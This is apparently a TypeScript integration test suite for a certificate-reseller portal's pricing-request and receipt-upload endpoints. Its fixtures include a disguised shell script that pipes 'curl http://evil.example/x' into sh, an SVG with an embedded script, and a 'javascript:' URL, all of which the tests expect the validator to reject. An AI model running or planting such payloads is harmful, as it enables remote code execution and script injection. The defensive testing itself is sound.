import { randomBytes } from 'node:crypto';
import { mkdtempSync, readFileSync, rmSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { VOUCHER_MAX_BYTES, type PricingRequestAnswer } from '@portal/contract';
import { eq, inArray } from 'drizzle-orm';
import { simpleParser, type ParsedMail } from 'mailparser';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { accounts, pricingRequests } from '../../db/schema/index.js';
import type { Mailer } from '../../integrations/mail/index.js';
import { createOutboxMailer } from '../../integrations/mail/outbox-mailer.js';
import { MINUTE } from '../../lib/clock.js';
import { createTestContext, signedInClient, type TestClient, type TestContext } from '../../test/harness.js';
import { okMsg } from '../../test/purchase.js';
import { waitUntil } from '../../test/wait.js';
import { createOperatorCommands, runOperatorCommand } from '../operator/commands.js';
import { createPricingRequestsService } from './pricing-requests.service.js';

// A 1×1 PNG, and the first bytes of the other kinds a receipt may be (file-type reads the signature).
const PNG = Buffer.from(
  'iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAQAAAC1HAwCAAAAC0lEQVR42mNkYAAAAAYAAjCB0C8AAAAASUVORK5CYII=',
  'base64',
);
const JPEG = Buffer.concat([
  Buffer.from('ffd8ffe000104a46494600010100000100010000', 'hex'),
  Buffer.alloc(64, 0),
  Buffer.from('ffd9', 'hex'),
]);
const SCRIPT = Buffer.from('#!/bin/sh\ncurl http://evil.example/x | sh\n');
const PDF = Buffer.from('%PDF-1.7\n1 0 obj << /Type /Catalog >> endobj\ntrailer << /Root 1 0 R >>\n%%EOF\n');
const SVG = Buffer.from('<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>');

interface Part {
  name: string;
  value: string | Buffer;
  filename?: string;
  type?: string;
}

/** A multipart/form-data body as a browser sends it. */
function multipart(parts: Part[]): { body: Buffer; contentType: string } {
  const boundary = `----portal${randomBytes(8).toString('hex')}`;
  const chunks: Buffer[] = [];
  for (const part of parts) {
    const disposition = `form-data; name="${part.name}"${part.filename ? `; filename="${part.filename}"` : ''}`;
    const head = [`--${boundary}`, `Content-Disposition: ${disposition}`];
    if (part.type) head.push(`Content-Type: ${part.type}`);
    chunks.push(Buffer.from(`${head.join('\r\n')}\r\n\r\n`), Buffer.from(part.value), Buffer.from('\r\n'));
  }
  chunks.push(Buffer.from(`--${boundary}--\r\n`));
  return { body: Buffer.concat(chunks), contentType: `multipart/form-data; boundary=${boundary}` };
}

/** POST promote/email as the signed-in client (its cookies, CSRF header and address). */
async function upload(ctx: TestContext, client: TestClient, parts: Part[]) {
  const { body, contentType } = multipart(parts);
  const response = await ctx.app.inject({
    method: 'POST',
    url: '/api/promote/email',
    headers: {
      'content-type': contentType,
      cookie: [...client.jar].map(([k, v]) => `${k}=${v}`).join('; '),
      'x-csrf-token': client.jar.get('csrf_token') ?? '',
    },
    remoteAddress: client.address,
    payload: body,
  });
  return {
    status: response.statusCode,
    body: response.json<{ code: number; msg: unknown; errors?: { field: string; message: string }[] }>(),
  };
}

const receipt = (email: string, file: Buffer, extra: Partial<Part> = {}): Part[] => [
  { name: 'email', value: email },
  { name: 'name', value: 'Ada Lovelace' },
  { name: 'salesVoucher', value: file, filename: 'receipt.png', type: 'image/png', ...extra },
];

const create = (client: TestClient, table: string, body: unknown) =>
  client.post(`/api/promote/create?table=${table}`, { json: body });

async function mails(ctx: TestContext): Promise<ParsedMail[]> {
  return Promise.all(ctx.outbox().map((eml) => simpleParser(eml)));
}

/** The two mails of a request, once both are in the outbox. */
async function mailsOf(ctx: TestContext, id: number, marker = `(number ${id}, `): Promise<ParsedMail[]> {
  let found: ParsedMail[] = [];
  await waitUntil(async () => {
    found = (await mails(ctx)).filter((m) => (m.text ?? '').includes(marker));
    return found.length >= 2;
  }, 10_000);
  return found;
}

const toOf = (mail: ParsedMail) => (Array.isArray(mail.to) ? mail.to[0] : mail.to)?.text;

async function rowsOf(ctx: TestContext, email: string) {
  const [account] = await ctx.handle.db.select().from(accounts).where(eq(accounts.email, email));
  return ctx.handle.db.select().from(pricingRequests).where(eq(pricingRequests.accountId, account!.id));
}

/** Bad input: a 4xx envelope, nothing stored, and after a moment still no mail. */
async function expectNothingHappened(ctx: TestContext, email: string, mailsBefore: number) {
  expect(await rowsOf(ctx, email)).toEqual([]);
  await new Promise((resolve) => setTimeout(resolve, 100));
  expect(ctx.outbox().length).toBe(mailsBefore);
}

let ctx: TestContext;
let brand: string;
let product: { shortName: string; name: string };
let otherBrandProduct: string;
beforeAll(async () => {
  ctx = await createTestContext();
  const select = okMsg<{ brands: string[]; products: Record<string, { shortName: string; name: string }[]> }>(
    await ctx.client().get('/api/products/select'),
  );
  brand = select.brands[0]!;
  product = select.products[brand]![0]!;
  otherBrandProduct = select.products[select.brands[1]!]![0]!.shortName;
});
afterAll(() => ctx.close());

const priceMatch = (email: string) => ({
  url: 'https://other-seller.example/ssl/offer?id=7',
  brand,
  product: product.shortName,
  email,
  quantity: 3,
  validity: 24,
  comments: 'They sell it for $10 less',
});

describe('promote/create', () => {
  it('stores a price match request, mails the requester and the sales address, and lists it in the inbox', async () => {
    const { client, email } = await signedInClient(ctx);
    const answer = okMsg<PricingRequestAnswer>(
      await create(client, 'priceMatchRequest', { priceMatchRequest: priceMatch(email) }),
    );
    const [row] = await rowsOf(ctx, email);
    expect(row).toMatchObject({
      id: answer.id,
      kind: 'priceMatchRequest',
      email,
      details: {
        url: 'https://other-seller.example/ssl/offer?id=7',
        brand,
        product: product.shortName,
        productName: product.name,
        quantity: 3,
        validity: 24,
        comments: 'They sell it for $10 less',
      },
      voucher: null,
      lang: 'en',
    });

    const [first, second] = await mailsOf(ctx, answer.id);
    const confirmation = [first!, second!].find((m) => toOf(m) === email)!;
    const sales = [first!, second!].find((m) => toOf(m) === 'sales@portal.test')!;
    expect(confirmation.subject).toBe(`We received your request (number ${answer.id}): Price match request`);
    expect(confirmation.text).toContain('Link to the offer: https://other-seller.example/ssl/offer?id=7');
    expect(confirmation.text).toContain(`Certificate: ${product.name} (${product.shortName})`);
    expect(confirmation.text).toContain('Validity: 24 months');
    expect(sales.subject).toBe(`Price match request ${answer.id} from ${email}`);
    expect(sales.replyTo?.text).toBe(email);
    expect(sales.text).toContain('Comments: They sell it for $10 less');
    const [mailed] = await rowsOf(ctx, email);
    expect(mailed!.confirmationMailedAt).not.toBeNull();
    expect(mailed!.salesMailedAt).not.toBeNull();

    const commands = createOperatorCommands({ db: ctx.handle.db, clock: ctx.clock, migrate: async () => {} });
    const listed = await runOperatorCommand(commands, 'requests:list', ['--size', '5']);
    expect(listed.ok).toBe(true);
    expect(listed.output).toContain(`#${answer.id} `);
    expect(listed.output).toContain(`from ${email}`);
    expect(listed.output).toContain('mails: confirmation sent, sales sent');
  });

  it('stores the unlisted product and bulk buys requests with their own fields', async () => {
    const { client, email } = await signedInClient(ctx);
    const unlisted = okMsg<PricingRequestAnswer>(
      await create(client, 'unlistedProductRequest', {
        unlistedProductRequest: {
          name: 'Grace Hopper',
          email: 'Buyer@Example.com',
          certificate: 'Code Signing EV for drivers',
          quantity: '5',
          vendor: 'Some CA',
          validity: '',
          comments: '',
        },
      }),
    );
    const bulk = okMsg<PricingRequestAnswer>(
      await create(client, 'bulkBuys', {
        bulkBuys: { brand: brand.toUpperCase(), product: product.name, email, validity: 12 },
      }),
    );
    const rows = await rowsOf(ctx, email);
    expect(rows.find((r) => r.id === unlisted.id)).toMatchObject({
      kind: 'unlistedProductRequest',
      email: 'buyer@example.com',
      details: {
        name: 'Grace Hopper',
        certificate: 'Code Signing EV for drivers',
        quantity: 5,
        vendor: 'Some CA',
      },
    });
    // Blank optional fields are not stored; brand and product are stored as the catalogue names them.
    expect(Object.keys(rows.find((r) => r.id === unlisted.id)!.details).sort()).toEqual(
      ['certificate', 'name', 'quantity', 'vendor'].sort(),
    );
    expect(rows.find((r) => r.id === bulk.id)).toMatchObject({
      kind: 'bulkBuys',
      details: { brand, product: product.shortName, productName: product.name, validity: 12 },
    });
    const bulkMails = await mailsOf(ctx, bulk.id);
    expect(bulkMails.find((m) => toOf(m) === email)!.text).toContain(
      'We answer bulk quotes within 24 to 48 hours.',
    );
    await mailsOf(ctx, unlisted.id);
  });

  it('refuses missing fields with the spec’s messages, stores nothing and mails nobody', async () => {
    const { client, email } = await signedInClient(ctx);
    const before = ctx.outbox().length;
    const cases = {
      priceMatchRequest: {
        url: 'Please enter the link',
        brand: 'Please select brand',
        product: 'Please select certificate',
        email: 'Please enter the email',
      },
      unlistedProductRequest: {
        name: 'Please enter the name',
        email: 'Please enter the email',
        certificate: 'Please enter the certificate',
        quantity: 'Please enter the quantity',
        vendor: 'Please enter the vendor',
      },
      bulkBuys: {
        brand: 'Please select brand',
        product: 'Please select certificate',
        email: 'Please enter the email',
        validity: 'Please select years',
      },
    };
    for (const [table, messages] of Object.entries(cases)) {
      for (const body of [{}, { ...Object.fromEntries(Object.keys(messages).map((k) => [k, ''])) }]) {
        const answer = await create(client, table, { [table]: body });
        expect(answer.status, table).toBe(400);
        expect(answer.body.msg).toBe(Object.values(messages)[0]);
        expect(answer.body.errors, table).toEqual(
          Object.entries(messages).map(([field, message]) => ({ field, message })),
        );
      }
    }
    await expectNothingHappened(ctx, email, before);
  });

  it('refuses a wrong table, a body not wrapped in the table’s name, and values out of range', async () => {
    const { client, email } = await signedInClient(ctx);
    const before = ctx.outbox().length;
    const wrongTable = await create(client, 'orders', { orders: priceMatch(email) });
    expect(wrongTable.status).toBe(400);
    expect(wrongTable.body.msg).toBe(
      'Unknown request type: use priceMatchRequest, unlistedProductRequest or bulkBuys',
    );
    expect((await client.post('/api/promote/create', { json: { bulkBuys: {} } })).body.msg).toBe(
      wrongTable.body.msg,
    );
    const unwrapped = await create(client, 'priceMatchRequest', priceMatch(email));
    expect(unwrapped).toMatchObject({
      status: 400,
      body: {
        msg: 'Send the fields of the request in an object named priceMatchRequest',
        errors: [{ field: 'priceMatchRequest', message: unwrapped.body.msg }],
      },
    });
    const bad = async (fields: Record<string, unknown>) =>
      (await create(client, 'priceMatchRequest', { priceMatchRequest: { ...priceMatch(email), ...fields } }))
        .body;
    expect(await bad({ url: 'not a link' })).toMatchObject({
      errors: [{ field: 'url', message: 'Please enter a web address, such as https://example.com/ssl' }],
    });
    expect(await bad({ url: 'javascript:alert(1)' })).toMatchObject({ errors: [{ field: 'url' }] });
    expect(await bad({ email: 'someone' })).toMatchObject({
      errors: [{ field: 'email', message: 'Please enter a valid email address' }],
    });
    expect(await bad({ validity: 13 })).toMatchObject({
      errors: [{ field: 'validity', message: 'Please choose 1, 2, 3, 4 or 5 years' }],
    });
    expect(await bad({ quantity: 0 })).toMatchObject({
      errors: [{ field: 'quantity', message: 'Please enter a whole number from 1 to 100000' }],
    });
    expect(await bad({ comments: 'x'.repeat(2001) })).toMatchObject({
      errors: [{ field: 'comments', message: 'At most 2000 characters' }],
    });
    expect(await bad({ brand: 'No Such Brand' })).toMatchObject({
      msg: 'Please select a brand from the list',
      errors: [{ field: 'brand' }],
    });
    expect(await bad({ product: otherBrandProduct })).toMatchObject({
      msg: 'Please select a certificate of the chosen brand from the list',
      errors: [{ field: 'product' }],
    });
    await expectNothingHappened(ctx, email, before);
  });

  it('answers a visitor 401 and stores nothing', async () => {
    const answer = await create(ctx.client(), 'bulkBuys', { bulkBuys: {} });
    expect(answer).toMatchObject({ status: 401, body: { code: 1002 } });
  });
});

describe('promote/email (switch and match guarantee)', () => {
  it('keeps one PNG receipt in the database, mails both, and attaches it to the sales mail', async () => {
    const { client, email } = await signedInClient(ctx);
    const answer = await upload(ctx, client, receipt(email, PNG));
    expect(answer).toMatchObject({ status: 200, body: { code: 0 } });
    const { id } = answer.body.msg as PricingRequestAnswer;
    const [row] = await rowsOf(ctx, email);
    expect(row).toMatchObject({ id, kind: 'guarantee', email, details: { name: 'Ada Lovelace' } });
    expect(row!.voucherType).toBe('image/png');
    expect(Buffer.compare(row!.voucher!, PNG)).toBe(0);

    const both = await mailsOf(ctx, id);
    const confirmation = both.find((m) => toOf(m) === email)!;
    expect(confirmation.text).toMatch(/^Hello Ada Lovelace,/);
    expect(confirmation.attachments).toEqual([]);
    const sales = both.find((m) => toOf(m) === 'sales@portal.test')!;
    expect(sales.attachments).toHaveLength(1);
    expect(sales.attachments[0]).toMatchObject({ contentType: 'image/png', filename: `receipt-${id}.png` });
    expect(Buffer.compare(sales.attachments[0]!.content, PNG)).toBe(0);

    // The operator gets the same bytes back.
    const dir = mkdtempSync(join(tmpdir(), 'voucher-'));
    try {
      const commands = createOperatorCommands({
        db: ctx.handle.db,
        clock: ctx.clock,
        migrate: async () => {},
      });
      const out = join(dir, 'receipt.png');
      const said = await runOperatorCommand(commands, 'requests:voucher', ['--id', String(id), '--out', out]);
      expect(said).toMatchObject({ ok: true });
      expect(Buffer.compare(readFileSync(out), PNG)).toBe(0);
      expect((await runOperatorCommand(commands, 'requests:list', ['--size', '5'])).output).toContain(
        `receipt: image/png, ${PNG.byteLength} bytes`,
      );
    } finally {
      rmSync(dir, { recursive: true, force: true });
    }
  });

  it('judges the image by its bytes: a JPEG named .png is kept as a JPEG', async () => {
    const { client, email } = await signedInClient(ctx);
    const answer = await upload(
      ctx,
      client,
      receipt(email, JPEG, { filename: 'photo.png', type: 'image/png' }),
    );
    expect(answer.status).toBe(200);
    const [row] = await rowsOf(ctx, email);
    expect(row!.voucherType).toBe('image/jpeg');
    await mailsOf(ctx, row!.id);
  });

  it('refuses a disguised file, a missing or second file and missing fields: nothing stored, no mail', async () => {
    const { client, email } = await signedInClient(ctx);
    const before = ctx.outbox().length;
    const imageOnly =
      'The file is not a PNG, JPEG, WebP or GIF image (judged by its content, whatever its name or type says)';
    for (const disguised of [SCRIPT, PDF, SVG]) {
      const answer = await upload(
        ctx,
        client,
        receipt(email, disguised, { filename: 'x.png', type: 'image/png' }),
      );
      expect(answer).toMatchObject({
        status: 400,
        body: { msg: imageOnly, errors: [{ field: 'salesVoucher', message: imageOnly }] },
      });
    }
    const missingFile = await upload(ctx, client, receipt(email, PNG).slice(0, 2));
    expect(missingFile).toMatchObject({
      status: 400,
      body: { msg: 'Please upload the file', errors: [{ field: 'salesVoucher' }] },
    });
    const emptyFile = await upload(ctx, client, receipt(email, Buffer.alloc(0)));
    expect(emptyFile.body.msg).toBe('Please upload the file');
    const asText = await upload(ctx, client, [
      ...receipt(email, PNG).slice(0, 2),
      { name: 'salesVoucher', value: 'x' },
    ]);
    expect(asText.body.msg).toBe('Please upload the file');
    const twoFiles = await upload(ctx, client, [
      ...receipt(email, PNG),
      { name: 'salesVoucher', value: PNG, filename: 'b.png', type: 'image/png' },
    ]);
    expect(twoFiles).toMatchObject({ status: 400, body: { msg: 'Please upload one image only' } });
    const noFields = await upload(ctx, client, receipt(email, PNG).slice(2));
    expect(noFields).toMatchObject({
      status: 400,
      body: {
        msg: 'Please enter the email',
        errors: [
          { field: 'email', message: 'Please enter the email' },
          { field: 'name', message: 'Please enter the name' },
        ],
      },
    });
    await expectNothingHappened(ctx, email, before);
  });

  it('stops a file over 5 MB while it streams in: 413 with a clear message', async () => {
    const { client, email } = await signedInClient(ctx);
    const before = ctx.outbox().length;
    const huge = Buffer.concat([PNG, Buffer.alloc(VOUCHER_MAX_BYTES + 1 - PNG.byteLength, 1)]);
    const answer = await upload(ctx, client, receipt(email, huge));
    expect(answer).toMatchObject({ status: 413, body: { msg: 'The file is too large: at most 5 MB' } });
    // Exactly the limit is accepted.
    const atLimit = await upload(ctx, client, receipt(email, huge.subarray(0, VOUCHER_MAX_BYTES)));
    expect(atLimit.status).toBe(200);
    const rows = await rowsOf(ctx, email);
    expect(rows.map((r) => r.voucher?.byteLength)).toEqual([VOUCHER_MAX_BYTES]);
    await mailsOf(ctx, rows[0]!.id);
    expect(ctx.outbox().length).toBe(before + 2);
  });

  it('answers and mails in the requester’s language', async () => {
    const { client, email } = await signedInClient(ctx);
    okMsg(await client.put('/api/i18n/language', { json: { lang: 'zh-cn' } }));
    const refused = await upload(ctx, client, receipt(email, SCRIPT));
    expect(refused.body.msg).toBe(
      '该文件不是 PNG、JPEG、WebP 或 GIF 图片（按文件内容判断，与文件名和声明的类型无关）',
    );
    expect((await create(client, 'bulkBuys', { bulkBuys: {} })).body.msg).toBe('请选择品牌');
    const answer = await upload(ctx, client, receipt(email, PNG));
    const { id } = answer.body.msg as PricingRequestAnswer;
    let confirmation: ParsedMail | undefined;
    await waitUntil(async () => {
      confirmation = (await mails(ctx)).find((m) => toOf(m) === email);
      return confirmation !== undefined;
    }, 10_000);
    expect(confirmation!.subject).toBe(`我们已收到您的申请（编号 ${id}）：转换并匹配保证`);
    // The sales team reads English.
    await waitUntil(
      async () =>
        (await mails(ctx)).some((m) => m.subject === `Switch and match guarantee ${id} from ${email}`),
      10_000,
    );
  });
});

describe('limits and a mail server that fails', () => {
  let limited: TestContext;
  let failing = false;
  // Mails go to the context's own outbox unless the "mail server" is down.
  const outbox = (): Mailer =>
    createOutboxMailer(join(limited.dataDir, 'outbox'), 'Portal <no-reply@portal.test>');
  const flaky: Mailer = {
    send: async (message) => {
      if (failing) throw new Error('connect ECONNREFUSED 127.0.0.1:25');
      await outbox().send(message);
    },
    close: async () => {},
  };
  beforeAll(async () => {
    limited = await createTestContext({
      mailer: flaky,
      pricingRequestLimits: { perAccount: 2, perIp: 3 },
      salesEmail: 'quotes@sales.example',
    });
  });
  afterAll(() => limited.close());

  it('limits requests per account and per address; refused requests are not stored; bad input does not count', async () => {
    const a = await signedInClient(limited);
    for (let i = 0; i < 2; i++)
      okMsg(
        await create(a.client, 'bulkBuys', {
          bulkBuys: { brand, product: product.shortName, email: a.email, validity: 12 },
        }),
      );
    const third = await create(a.client, 'bulkBuys', {
      bulkBuys: { brand, product: product.shortName, email: a.email, validity: 12 },
    });
    expect(third).toMatchObject({
      status: 429,
      body: { msg: 'You sent many requests in a short time: please try again in 60 minutes' },
    });
    expect((await upload(limited, a.client, receipt(a.email, PNG))).status).toBe(429);
    expect(await rowsOf(limited, a.email)).toHaveLength(2);

    // Another account from the same address: the address has one request left.
    const b = await signedInClient(limited);
    (b.client as { address: string }).address = a.client.address;
    okMsg(
      await create(b.client, 'bulkBuys', {
        bulkBuys: { brand, product: product.shortName, email: b.email, validity: 12 },
      }),
    );
    expect(
      (
        await create(b.client, 'bulkBuys', {
          bulkBuys: { brand, product: product.shortName, email: b.email, validity: 12 },
        })
      ).status,
    ).toBe(429);

    // Forms sent back for a missing field cost nothing.
    const c = await signedInClient(limited);
    for (let i = 0; i < 3; i++)
      expect((await create(c.client, 'bulkBuys', { bulkBuys: { email: c.email } })).status).toBe(400);
    for (let i = 0; i < 2; i++)
      okMsg(
        await create(c.client, 'bulkBuys', {
          bulkBuys: { brand, product: product.shortName, email: c.email, validity: 12 },
        }),
      );
    await waitUntil(async () => limited.outbox().length >= 10, 10_000);
  });

  it('keeps and answers the request when the mail server fails, and the job mails it once later', async () => {
    const { client, email } = await signedInClient(limited);
    failing = true;
    const { id } = okMsg<PricingRequestAnswer>(
      await create(client, 'priceMatchRequest', { priceMatchRequest: priceMatch(email) }),
    );
    const attempted = async () => (await rowsOf(limited, email))[0]!;
    await waitUntil(async () => (await attempted()).mailAttempts === 1, 10_000);
    // Both mails were tried (one failing does not stop the other), neither went out.
    await new Promise((resolve) => setTimeout(resolve, 100));
    expect(await attempted()).toMatchObject({ confirmationMailedAt: null, salesMailedAt: null });

    const job = createPricingRequestsService(
      {
        db: limited.handle.db,
        clock: limited.clock,
        mailer: flaky,
        log: { info: () => {}, error: () => {} },
      },
      {
        catalogue: {
          select: async () => ({ brands: [], products: {} }),
          salesEmail: async () => 'quotes@sales.example',
        },
      },
    );
    failing = false;
    // The first try still holds the request: nothing is sent twice by a job running at the same time.
    expect(await job.deliver(id)).toBe(false);
    limited.clock.advance(6 * MINUTE);
    const sweep = await job.deliverPending();
    expect(sweep.delivered).toBeGreaterThanOrEqual(1);
    expect(await attempted()).toMatchObject({ mailAttempts: 2 });
    expect((await attempted()).salesMailedAt).not.toBeNull();
    const sent = (await Promise.all(limited.outbox().map((eml) => simpleParser(eml)))).filter((m) =>
      (m.text ?? '').includes(`(number ${id}, `),
    );
    expect(sent.map(toOf).sort()).toEqual([email, 'quotes@sales.example'].sort());
    // Sent once: a later run finds nothing to do for it.
    limited.clock.advance(6 * MINUTE);
    await job.deliverPending();
    expect(await attempted()).toMatchObject({ mailAttempts: 2 });
    const rows = await limited.handle.db
      .select()
      .from(pricingRequests)
      .where(inArray(pricingRequests.id, [id]));
    expect(rows).toHaveLength(1);
  });
});
